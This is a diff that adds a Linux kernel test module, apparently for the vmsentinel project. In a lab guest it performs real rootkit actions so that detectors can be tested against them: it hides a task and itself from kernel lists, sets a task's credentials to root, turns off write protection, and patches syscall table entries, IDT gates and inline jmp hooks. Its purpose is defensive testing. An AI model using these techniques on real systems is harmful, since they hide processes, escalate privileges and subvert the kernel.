@@ -1,0 +1,100 @@
+// SPDX-License-Identifier: GPL-2.0
+/*
+ * vmsrootkit: a test module that does what rootkits do, so the sentinel's
+ * detectors can be tested against the real thing in a lab guest. Each action
+ * is chosen by a module parameter; addresses come from /proc/kallsyms, which
+ * the test reads as root inside the guest.
+ *
+ *   hide_pid=N          unlink task N from the task list (it keeps running)
+ *   hide_self=1         unlink this module from the module list
+ *   root_pid=N          give task N root credentials in place
+ *   syscall_table=ADDR syscall_nr=N   overwrite sys_call_table[N] with our handler
+ *   idt_table=ADDR idt_vector=N      point IDT gate N at our handler
+ *   patch_addr=ADDR     plant a jmp at the start of a kernel function (inline hook)
+ */
+#include <linux/cred.h>
+#include <linux/module.h>
+#include <linux/pid.h>
+#include <linux/rculist.h>
+#include <linux/sched.h>
+#include <linux/sched/task.h>
+
+MODULE_LICENSE("GPL");
+MODULE_DESCRIPTION("rootkit behaviours for vmsentinel's lab tests");
+
+static int hide_pid;
+static int hide_self;
+static int root_pid;
+static unsigned long syscall_table;
+static int syscall_nr = -1;
+static unsigned long idt_table;
+static int idt_vector = -1;
+static unsigned long patch_addr;
+module_param(hide_pid, int, 0);
+module_param(hide_self, int, 0);
+module_param(root_pid, int, 0);
+module_param(syscall_table, ulong, 0);
+module_param(syscall_nr, int, 0);
+module_param(idt_table, ulong, 0);
+module_param(idt_vector, int, 0);
+module_param(patch_addr, ulong, 0);
+
+static long vms_fake_syscall(const struct pt_regs *regs) { return -ENOSYS; }
+static void vms_fake_handler(void) { }
+
+static inline void wp_off(void)
+{
+	unsigned long cr0 = read_cr0() & ~X86_CR0_WP;
+	asm volatile("mov %0, %%cr0" : "+r"(cr0) : : "memory");
+}
+
+static inline void wp_on(void)
+{
+	unsigned long cr0 = read_cr0() | X86_CR0_WP;
+	asm volatile("mov %0, %%cr0" : "+r"(cr0) : : "memory");
+}
+
+static struct task_struct *task_of(int nr)
+{
+	return pid_task(find_vpid(nr), PIDTYPE_PID);
+}
+
+static int __init vms_init(void)
+{
+	struct task_struct *t;
+
+	if (hide_pid > 0 && (t = task_of(hide_pid)))
+		list_del_init(&t->tasks);
+	if (root_pid > 0 && (t = task_of(root_pid))) {
+		struct cred *c = (struct cred *)t->real_cred;
+		c->uid.val = c->euid.val = c->suid.val = c->fsuid.val = 0;
+		c->gid.val = c->egid.val = c->sgid.val = c->fsgid.val = 0;
+	}
+	if (syscall_table && syscall_nr >= 0) {
+		wp_off();
+		((unsigned long *)syscall_table)[syscall_nr] = (unsigned long)vms_fake_syscall;
+		wp_on();
+	}
+	if (idt_table && idt_vector >= 0) {
+		unsigned long h = (unsigned long)vms_fake_handler;
+		u16 *gate = (u16 *)(idt_table + 16 * idt_vector);
+		wp_off();
+		gate[0] = h & 0xffff;
+		gate[3] = (h >> 16) & 0xffff;
+		*(u32 *)(gate + 4) = h >> 32;
+		wp_on();
+	}
+	if (patch_addr) {
+		long rel = (long)vms_fake_handler - (long)(patch_addr + 5);
+		u8 *p = (u8 *)patch_addr;
+		wp_off();
+		p[0] = 0xe9;
+		*(s32 *)(p + 1) = (s32)rel;
+		wp_on();
+	}
+	if (hide_self)
+		list_del_init(&THIS_MODULE->list);
+	return 0;
+}
+
+module_init(vms_init);
